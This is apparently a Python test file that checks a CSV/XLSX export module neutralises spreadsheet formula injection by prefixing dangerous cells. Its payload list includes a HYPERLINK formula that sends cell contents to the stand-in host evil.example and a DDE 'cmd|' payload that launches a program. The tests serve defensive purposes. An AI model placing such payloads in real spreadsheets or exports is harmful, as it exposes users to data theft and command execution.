"""Formula (CSV) injection: every dangerous first character, in CSV and in XLSX."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from talento.exports.csv_format import write_csv
from talento.exports.neutralise import DANGEROUS_FIRST_CHARS, is_dangerous, neutralise_csv
from talento.exports.xlsx_format import write_xlsx
from tests.exports.reading import csv_rows, xlsx_sheet

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+212612345678",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_list_is_owasps():
    assert set(DANGEROUS_FIRST_CHARS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_prefixes_an_apostrophe(payload):
    assert neutralise_csv(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Amina", "0612345678", "", "a=b", " =1", "'=1", "Ça va"])
def test_harmless_text_is_untouched(text):
    assert neutralise_csv(text) == text
    assert not is_dangerous(text)


@given(first=st.sampled_from(DANGEROUS_FIRST_CHARS), rest=st.text(max_size=30))
def test_csv_neutralises_any_dangerous_start(first, rest):
    value = first + rest
    out = neutralise_csv(value)
    assert out == "'" + value
    assert not is_dangerous(out)


@given(st.text(max_size=30))
def test_csv_output_never_starts_a_formula(value):
    out = neutralise_csv(value)
    assert not is_dangerous(out)
    assert out in (value, "'" + value)


def _csv_bytes(values) -> bytes:
    return b"".join(write_csv(["Nom"], [[(v,) for v in values]]))


@given(first=st.sampled_from(DANGEROUS_FIRST_CHARS), rest=st.text(max_size=20))
def test_csv_file_cells_are_neutralised(first, rest):
    value = first + rest
    rows = csv_rows(_csv_bytes([value]))
    # The csv module round-trips the cell (quotes, separators, line breaks) with the prefix.
    assert rows[1] == ["'" + value]


def test_xlsx_dangerous_cells_are_text_with_quote_prefix():
    data = b"".join(write_xlsx(["Valeur"], [[(p,) for p in PAYLOADS + ["Amina"]]]))
    sheet = xlsx_sheet(data)
    for row, payload in enumerate(PAYLOADS, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.value == payload  # the value itself is kept exactly
        assert cell.data_type == "s"  # a string, never a formula
        assert cell.quotePrefix is True
    plain = sheet.cell(row=len(PAYLOADS) + 2, column=1)
    assert plain.value == "Amina"
    assert not plain.quotePrefix


@given(
    first=st.sampled_from(DANGEROUS_FIRST_CHARS),
    rest=st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=20),
)
def test_xlsx_never_writes_a_formula(first, rest):
    value = first + rest
    data = b"".join(write_xlsx(["Valeur"], [[(value,)]]))
    cell = xlsx_sheet(data).cell(row=2, column=1)
    assert cell.data_type == "s"
    assert cell.value == value
    assert cell.quotePrefix is True


@given(
    st.lists(
        st.lists(
            st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=8), max_size=5
        ),
        max_size=5,
    )
)
def test_csv_fast_path_writes_what_the_csv_module_writes(rows):
    import csv
    import io

    from talento.exports.csv_format import _lines, _Writer

    expected = io.StringIO()
    csv.writer(expected, delimiter=";", lineterminator="\r\n").writerows(rows)
    assert _lines(rows, _Writer()) == expected.getvalue()
